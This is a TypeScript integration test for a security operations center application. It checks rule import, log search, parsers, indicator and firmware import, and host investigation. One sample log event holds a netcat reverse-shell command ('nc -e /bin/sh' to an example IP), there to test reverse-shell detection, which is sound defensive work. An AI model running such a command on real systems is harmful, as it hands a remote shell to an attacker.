import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { test } from 'node:test'
import { pathToFileURL } from 'node:url'
import { processFixture } from '../packages/kit/src/testing/service-process.ts'
import { seen, signIn } from './demo/soc-client.ts'
import { ensureServer } from './server.ts'

const PASSWORD = 'correct horse battery'

test('the bundle of the soc finds its threads and files, and describes itself as the sources do', async (t) => {
  const entry = await ensureServer('soc')
  assert.equal(entry, 'apps/soc/dist/main.js')
  const { start } = processFixture(t, pathToFileURL(entry), (folder) => ({
    SOC_PORT: '0',
    SOC_MQTT_PORT: '0',
    SOC_WARM_UP: 'off',
    SOC_DATA: path.join(folder, 'data'),
    SOC_ADMIN_PASSWORD: PASSWORD,
  }))
  const soc = start()
  const [, address = ''] = await soc.printed(/^soc {7}(http\S+)/m)
  await soc.printed(/^ +devices: mqtts:/m)
  const { call, text } = await signIn(address, 'admin', PASSWORD)
  const first = (route: string) => seen(route, async () => (await call('GET', route)).items[0])

  await t.test('starter rules, and one that is imported', async () => {
    await first('/detections/rules?sigma_id=manara-linux-reverse-shell')
    const content = 'title: Knock\nid: knock\nlogsource: {}\ndetection: {a: [knock], condition: a}'
    const files = [{ name: 'knock.yml', content }]
    assert.equal((await call('POST', '/detections/rules/import', { files })).imported, 1)
  })

  await t.test('events are read, stored, found and matched', async () => {
    const shell = JSON.stringify({ CommandLine: 'nc -e /bin/sh 203.0.113.9 4444' })
    const events = [
      { id: 'knock', source: 'door', message: 'somebody knocked' },
      { id: 'shell', source: 'linux', host: 'web-1', message: shell },
    ]
    await call('POST', '/siem/logs', { events })
    assert.equal((await call('GET', '/siem/logs?q="somebody knocked"')).items[0].id, 'knock')
    await first('/alerts?q=reverse%20shell')
  })

  await t.test('a parser is tried, and stored events are read again', async () => {
    const definition = { kind: 'dissect', pattern: '%{who} knocked' }
    const tried = await call('POST', '/siem/parsers/preview', { source: 'door', definition })
    assert.equal(tried.read, 1)
    const { id } = await call('POST', '/siem/reparse', { source: 'door', dry_run: true })
    const { status, error } = await seen('the end of the task', async () => {
      const task = await call('GET', `/siem/reparse/${id}`)
      return task.finished_at === null ? undefined : task
    })
    assert.deepEqual([status, error], ['done', null])
  })

  await t.test('indicators and firmware are imported, and a host is investigated', async () => {
    const Attribute = [{ type: 'ip-dst', value: '203.0.113.9' }]
    assert.equal((await call('POST', '/iocs/import', { Attribute })).imported, 1)
    const metadata = {
      component: {
        ...{ type: 'firmware', name: 'WX-200', version: '3.8.0', manufacturer: { name: 'Wadi' } },
        hashes: [{ alg: 'SHA-256', content: 'a'.repeat(64) }],
      },
    }
    const materials = { bomFormat: 'CycloneDX', specVersion: '1.6', metadata }
    assert.equal((await call('POST', '/firmware/import', materials)).imported, 1)
    const { status } = await call('POST', '/agents/investigate', { alert_context: 'host web-1' })
    assert.equal(status, 'completed')
  })

  await t.test('playbooks, pages and the description', async () => {
    await first('/soar/playbooks')
    assert.match(await (await fetch(address)).text(), /<title>/)
    assert.match(await text('/docs/static/swagger-ui.css'), /swagger-ui/)
    const written = JSON.parse(readFileSync('docs/api/soc.json', 'utf8'))
    assert.deepEqual(await call('GET', '/openapi.json'), written)
  })
})
